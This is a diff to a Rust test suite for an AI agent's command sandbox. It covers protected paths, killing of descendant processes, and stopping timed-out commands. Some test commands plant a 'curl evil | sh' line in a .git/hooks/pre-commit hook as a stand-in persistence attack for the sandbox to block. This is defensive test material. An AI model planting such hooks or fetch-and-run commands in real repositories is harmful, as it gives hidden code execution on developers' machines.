@@ -835,9 +835,18 @@ fn every_descendant_dies_with_the_command() {
             let (out, report) = lab.run(
                 sandboxed.then_some(&p),
                 "setsid -f sh -c 'echo $$ > daemon.pid; sleep 1.5; echo \"curl evil | sh\" > .git/hooks/pre-commit; sleep 30' \
-                 </dev/null >/dev/null 2>&1; (sleep 30 >/dev/null 2>&1 &); nohup sleep 31 >/dev/null 2>&1 & echo started",
+                 </dev/null >/dev/null 2>&1; (sleep 30 >/dev/null 2>&1 &); nohup sleep 31 >/dev/null 2>&1 & \
+                 while [ ! -s daemon.pid ]; do sleep 0.01; done; echo started",
             );
-            std::thread::sleep(Duration::from_millis(2500));
+            // The daemon plants after 1.5 s; unsandboxed, a loaded machine
+            // may take longer, so wait for it there (up to 10 s).
+            let hook = lab.work.join(".git/hooks/pre-commit");
+            let began = std::time::Instant::now();
+            while began.elapsed() < Duration::from_millis(2500)
+                || (!sandboxed && !hook.exists() && began.elapsed() < Duration::from_secs(10))
+            {
+                std::thread::sleep(Duration::from_millis(50));
+            }
             let pid: u32 = std::fs::read_to_string(lab.work.join("daemon.pid"))
                 .unwrap()
                 .trim()
@@ -877,7 +886,8 @@ fn every_descendant_dies_with_the_command() {
 #[test]
 fn protected_paths_hold_during_and_after_the_command() {
     require_sandbox!("protected_paths_hold_during_and_after_the_command");
-    let attacks: &[(&str, &str, fn(&Lab) -> bool)] = &[
+    type Planted = fn(&Lab) -> bool;
+    let attacks: &[(&str, &str, Planted)] = &[
         (
             "hook",
             "echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
@@ -1407,4 +1417,52 @@ fn proxy_refusals_are_reported_to_the_model() {
         "{results:?}"
     );
     assert_eq!(hits.load(std::sync::atomic::Ordering::SeqCst), 1);
+}
+
+/// Through the agent (the sandbox server's path): a command that times
+/// out is stopped whole — its daemons too — and the result says so.
+#[test]
+fn a_timed_out_sandboxed_command_is_stopped_whole() {
+    require_sandbox!("a_timed_out_sandboxed_command_is_stopped_whole");
+    for sandboxed in [false, true] {
+        let l = agent_lab(
+            "timeout",
+            &format!(r#"{{"sandbox":{{"enabled":{sandboxed}}}}}"#),
+        );
+        let call = r#"{"command": "setsid -f sh -c 'echo $$ > d.pid; sleep 60' </dev/null >/dev/null 2>&1; sleep 60 & echo $! > b.pid; sleep 60", "timeout": 800}"#;
+        let (out, results) = session(
+            &l,
+            &[("Bash", call)],
+            &["--permission-mode", "bypassPermissions"],
+        );
+        assert_ok(&out);
+        assert!(results[0].contains("timed out after 800 ms"), "{results:?}");
+        let pid_of = |f: &str| -> u32 {
+            std::fs::read_to_string(l.work.join(f))
+                .unwrap()
+                .trim()
+                .parse()
+                .unwrap()
+        };
+        let gone = |pid: u32| {
+            let began = std::time::Instant::now();
+            while alive(pid) && began.elapsed() < Duration::from_secs(3) {
+                std::thread::sleep(Duration::from_millis(20));
+            }
+            !alive(pid)
+        };
+        // The background job is in the process group: gone either way.
+        assert!(gone(pid_of("b.pid")));
+        // The daemon left the group: only the sandbox's supervisor gets it.
+        let daemon = pid_of("d.pid");
+        assert_eq!(
+            gone(daemon),
+            sandboxed,
+            "daemon {daemon}, sandboxed={sandboxed}"
+        );
+        if alive(daemon) {
+            // SAFETY: cleaning up the test's own daemon.
+            unsafe { libc::kill(daemon as i32, libc::SIGKILL) };
+        }
+    }
 }
